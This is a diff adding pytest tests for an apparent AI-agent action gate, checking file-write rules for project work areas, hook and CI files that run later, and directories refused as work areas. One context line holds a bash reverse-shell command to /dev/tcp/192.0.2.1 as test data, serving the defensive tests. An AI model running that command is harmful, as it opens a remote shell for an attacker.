@@ -171,3 +171,58 @@ def test_startup_files_written_with_a_network_shell_block(policy):
     assert "block.files.malicious-persistence" not in benign
     other = fired(policy, type="file_write", path="~/notes.txt", content="bash -i >& /dev/tcp/192.0.2.1/9 0>&1")
     assert "block.files.malicious-persistence" not in other
+
+
+# -- the work area: a session's project directory -------------------------------------------------------
+
+
+def fired_in(policy, work_dirs, **action) -> set[str]:
+    from gate.model import Observation
+
+    ctx = Context(action_from_dict(action), Observation(work_dirs=tuple(work_dirs)), policy=policy)
+    return {h.rule for r in files.RULES if (h := r(ctx)) is not None}
+
+
+def test_a_project_directory_is_a_work_area(policy, tmp_path):
+    project = tmp_path / "code" / "proj"
+    project.mkdir(parents=True)
+    write = {"type": "file_write", "path": str(project / "src" / "app.py"), "content": "print(1)\n"}
+    assert "confirm.files.outside-sandbox" in fired(policy, **write)  # without the project: outside
+    assert fired_in(policy, [str(project)], **write) == set()
+    # a sibling directory is not the project (component-wise: proj-old is not proj)
+    assert "confirm.files.outside-sandbox" in fired_in(
+        policy, [str(project)], type="file_write", path=str(tmp_path / "code" / "proj-old" / "a.py"), content="")
+    # sensitive files inside the project keep their rules
+    assert fired_in(policy, [str(project)], type="file_write", path=str(project / ".env"),
+                    content="A=1") == {"confirm.files.sensitive-write"}
+    # deleting the project itself is deleting a root of the work area
+    assert "block.files.delete-root" in fired_in(policy, [str(project)], type="file_delete", path=str(project))
+
+
+def test_files_that_run_later_ask_inside_the_work_area(policy, sandbox):
+    for rel in (".git/hooks/pre-commit", ".github/workflows/ci.yml", ".gitlab-ci.yml", ".husky/pre-push",
+                ".envrc", "Jenkinsfile"):
+        hits = fired(policy, type="file_write", path=str(sandbox / rel), content="make test\n")
+        assert hits == {"confirm.files.runs-later"}, rel
+    assert "confirm.files.runs-later" in fired(policy, type="file_move", path=str(sandbox / "x.sh"),
+                                                 to=str(sandbox / ".git" / "hooks" / "post-checkout"))
+    assert "confirm.files.runs-later" in fired(policy, type="file_write", path="~/.bashrc", content="ls\n")
+    # near misses: documentation about workflows, a hooks sample directory elsewhere, deleting a hook
+    for rel in ("docs/workflows.md", "src/hooks/pre-commit.py", "ci.yml.md"):
+        assert fired(policy, type="file_write", path=str(sandbox / rel), content="x") == set(), rel
+    assert fired(policy, type="file_delete", path=str(sandbox / ".git/hooks/pre-commit")) == set()
+
+
+def test_what_cannot_be_a_work_area():
+    from gate.paths import work_area_refusal
+
+    system = ("/etc", "/usr")
+    home = "/home/me"
+    assert work_area_refusal("/", home, system) == "the filesystem root"
+    assert work_area_refusal("/home/me", home, system) == "the home directory itself"
+    assert work_area_refusal("/home", home, system) == "a directory that contains the home directory"
+    assert work_area_refusal("/usr/local/src", home, system) == "inside the system directory /usr"
+    assert "hidden" in work_area_refusal("/home/me/.ssh", home, system)
+    assert work_area_refusal("/home/me/.config/nvim", home, system, person=True) is None  # the policy says so
+    assert work_area_refusal("/home/me/code/proj", home, system) is None
+    assert work_area_refusal("/srv/site", home, system) is None
